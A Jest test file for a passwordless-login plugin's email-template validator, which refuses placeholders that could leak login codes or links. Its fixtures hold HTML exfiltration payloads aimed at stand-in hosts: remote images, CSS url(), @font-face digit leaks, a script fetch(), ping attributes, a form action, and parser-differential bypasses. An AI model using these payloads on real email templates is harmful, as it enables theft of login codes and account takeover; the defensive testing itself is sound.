/**
 * Where an admin-edited HTML template may hold placeholders: in text, and the link only
 * as an <a>'s whole href. Guards against templates that make the mail client send each
 * recipient's code or link to someone else (a remote image, CSS url(), a ping), read
 * the way a browser reads HTML (issue 18: a hand-written scanner was fooled three ways).
 */
import { findMarkupProblems } from '../../packages/strapi-passwordless-login/src/shared/template-markup';
import { findTextPlacementProblems } from '../../packages/strapi-passwordless-login/src/shared/template-words';
import { defaultEmailTemplates, defaultLockedTemplates } from '../../packages/strapi-passwordless-login/src/server/config/defaults';

describe('findMarkupProblems', () => {
  it.each([
    ['the default template with the link', defaultEmailTemplates({ withLink: true }).html],
    ['the default template without the link', defaultEmailTemplates({ withLink: false }).html],
    ['the locked template with the link', defaultLockedTemplates({ withLink: true }).html],
    ['text and a link', '<p>Code: <%= CODE %></p><a href="<%= URL %>">Sign in</a>'],
    ["single quotes, attributes around the href", "<a class='b' href='<%= URL %>' style='color:red'>x</a>"],
    ['an unquoted href (the URL never holds a space or ">")', '<a href=<%= URL %>>x</a>'],
    ['a ">" inside a quoted attribute before the text', '<p title="a > b">Hi <%= USER.username %></p>'],
    ['a comment closed before the code', '<!-- note --><b><%= CODE %></b>'],
    ['a quote in text (not an attribute)', `<p>it's <%= CODE %>, "quoted"</p>`],
    ['the link as text', '<p>Open <%= URL %></p>'],
    ['the code in a table cell', '<table><tr><td><%= CODE %></td></tr></table>'],
    ['no placeholder at all', '<p>Hello</p>'],
  ])('accepts %s', (_name, html) => {
    expect(findMarkupProblems(html)).toEqual([]);
  });

  it.each([
    ['a remote image carrying the code', '<img src="https://attacker.example/?c=<%= CODE %>">', 'inside a tag'],
    ['the link as an image source', '<img src="<%= URL %>">', 'inside a tag'],
    ['the code in a CSS url() of a style attribute', '<p style="background:url(https://a.example/<%= CODE %>)">x</p>', 'inside a tag'],
    ['the code in a <style> element', '<style>body{background:url(https://a.example/<%= CODE %>)}</style>', 'inside <style>'],
    ['the code in an SVG <style> (CSS too)', '<svg><style>@import url(https://a.example/<%= CODE %>)</style></svg>', 'inside <style>'],
    ['the code in a script', '<script>fetch("https://a.example/<%= CODE %>")</script>', 'inside <script>'],
    ['the code in a title', '<title><%= CODE %></title>', 'inside <title>'],
    ['the code in a textarea', '<textarea><%= CODE %></textarea>', 'inside <textarea>'],
    ['the code after <plaintext>', '<plaintext><%= CODE %>', 'inside <plaintext>'],
    ['the code in <noscript> (raw text when scripting is on)', '<noscript><p><%= CODE %></p></noscript>', 'inside <noscript>'],
    ['a link with ping', '<a href="<%= URL %>" ping="https://attacker.example/">x</a>', 'ping'],
    ['a link with ping behind a quoted ">"', '<a href="<%= URL %>" title=">" ping="https://attacker.example/">x</a>', 'ping'],
    ['the link appended to another address', '<a href="https://attacker.example/?u=<%= URL %>">x</a>', 'inside a tag'],
    ['the link as an SVG <a> href', '<svg><a href="<%= URL %>"><text>x</text></a></svg>', 'inside a tag'],
    ['the code as a link', '<a href="<%= CODE %>">x</a>', 'inside a tag'],
    ['a ">" inside quotes hiding the tag', '<img alt=">" src="https://a.example/?c=<%= CODE %>">', 'inside a tag'],
    ['the code in a comment', '<!-- <%= CODE %> -->', 'inside a comment'],
    ['the username in an attribute', '<img alt="<%= USER.username %>">', 'inside a tag'],
    ['the code in an end tag’s attribute (the parser drops it)', '<p><%= CODE %></p x="<%= CODE %>">', 'drops or moves it'],
    ['a second href (the parser keeps the first)', '<a href="https://attacker.example/" href="<%= URL %>">x</a>', 'drops or moves it'],
  ])('refuses %s', (_name, html, where) => {
    const problems = findMarkupProblems(html);
    expect(problems.length).toBeGreaterThan(0);
    expect(problems.join('\n')).toContain(where);
  });

  // The second outside review (issue 18): each of these passed the hand-written scanner,
  // and the rendered email sent the code or link to another host.
  it.each([
    [
      'a quote inside an unquoted attribute value (the review’s saved template)',
      `<p>Your code: <%= CODE %></p><img alt=x' src="https://attacker.example/p.gif?a='><%= CODE %>">`,
    ],
    // The scanner kept the quote open past the ">" that ends the comment for HTML.
    ['a bogus comment <?…> ending at the first ">"', `<?x "><img src='https://attacker.example/p.gif?c=" > <%= CODE %>'>`],
    ['a bogus comment <!x…>', `<!x "><img src='https://attacker.example/p.gif?c=" > <%= CODE %>'>`],
    ['a bogus comment </ …>', `</ "><img src='https://attacker.example/p.gif?c=" > <%= CODE %>'>`],
    ['a raw-text end tag the scanner took for </style>', `<style>p{background:url("https://attacker.example/c.gif?</styles><%= CODE %>")}</style>`],
    ['ping glued to the href’s closing quote', `<a href="<%= URL %>"ping="https://attacker.example/ping">Sign in</a>`],
    ['ping after a slash', `<a href="<%= URL %>"/ping="https://attacker.example/ping">Sign in</a>`],
  ])('refuses %s', (_name, html) => {
    expect(findMarkupProblems(html)).not.toEqual([]);
  });

  // A review of the parse5 checker (issue 18): each of these passed it, and Chromium 156
  // sent the code or the link elsewhere (on opening, or on one click).
  it.each([
    [
      '<style> in <select> (parse5 drops it, Chromium keeps it)',
      '<p>Your code is <%= CODE %></p><select hidden><style>p{background:url(https://evil.example/s?c=<%= CODE %>)}</style></select>',
      '<select>',
    ],
    [
      'a forged marker in text covering a dropped image',
      '<select><img src="https://evil.example/?c=<%= CODE %>"></select><p hidden>&#112;lmkq0q plmk0xq1q</p>',
      '<select>',
    ],
    [
      'a form whose option text is the code',
      '<form action="https://evil.example/collect"><select name=c hidden><option selected><%= CODE %></option></select><button>Your code is <b><%= CODE %></b></button></form>',
      '<form>',
    ],
    [
      'a stylesheet with @font-face per digit (tells the code’s digits)',
      '<style>@font-face{font-family:d;src:url(https://evil.example/has-1);unicode-range:U+31}p{font-family:d}</style><p><%= CODE %></p>',
      '<style>',
    ],
    ['an external stylesheet', '<link rel="stylesheet" href="https://evil.example/s.css"><p><%= CODE %></p>', '<link>'],
    ['the code glued to an address in text (link scanners fetch it)', '<p hidden>https://evil.example/c/<%= CODE %></p>', 'glued to'],
    ['the link glued to an address across inline tags', '<p>https://evil.example/u?<b><%= URL %></b></p>', 'glued to'],
    ['the code glued to the link', '<p><%= URL %><%= CODE %></p>', 'glued to'],
  ])('refuses %s', (_name, html, where) => {
    expect(findMarkupProblems(html).join('\n')).toContain(where);
  });

  it.each([
    ['punctuation around the code', '<p>Your code: (<%= CODE %>).</p>'],
    ['the code after a block boundary', '<p>https://shop.example/</p><p><%= CODE %></p>'],
    ['the code after a line break', 'Visit https://shop.example/<br><%= CODE %>'],
    ['an image (a logo) and inline styles', '<img src="https://cdn.shop.example/logo.png" alt="Shop" style="width:80px"><p style="font-size:32px"><%= CODE %></p>'],
  ])('accepts %s', (_name, html) => {
    expect(findMarkupProblems(html)).toEqual([]);
  });

  it('answers for deeply nested and very long templates without exhausting the stack', () => {
    expect(findMarkupProblems(`${'<i>'.repeat(10_000)}<%= CODE %>`)).toEqual([]);
    expect(findMarkupProblems('<b><%=CODE%></b>'.repeat(201))).toEqual(['more than 200 placeholders']);
  });

  it('names each misplaced placeholder once, whatever the reading', () => {
    expect(findMarkupProblems('<img src="x?<%= CODE %>"><p><%= CODE %></p>')).toEqual([
      '<%= CODE %> inside a tag (only <a href="<%= URL %>"> may hold a placeholder there)',
    ]);
  });

});

describe('findTextPlacementProblems (text part and subject)', () => {
  it.each([
    ['the default text', defaultEmailTemplates({ withLink: true }).text],
    ['the locked text', defaultLockedTemplates({ withLink: true }).text],
    ['punctuation around the code', 'Your code: "<%= CODE %>".'],
    ['the username glued to anything (not a secret)', 'Hi <%= USER.username %>@shop'],
  ])('accepts %s', (_name, text) => {
    expect(findTextPlacementProblems(text)).toEqual([]);
  });

  it.each([
    ['the code in an address', 'https://evil.example/c/<%= CODE %>'],
    ['the link after an address', 'Go: https://evil.example/u?<%= URL %>'],
    ['the code glued to a word', 'code<%= CODE %>'],
  ])('refuses %s', (_name, text) => {
    expect(findTextPlacementProblems(text)).toEqual([expect.stringContaining('glued to')]);
  });
});
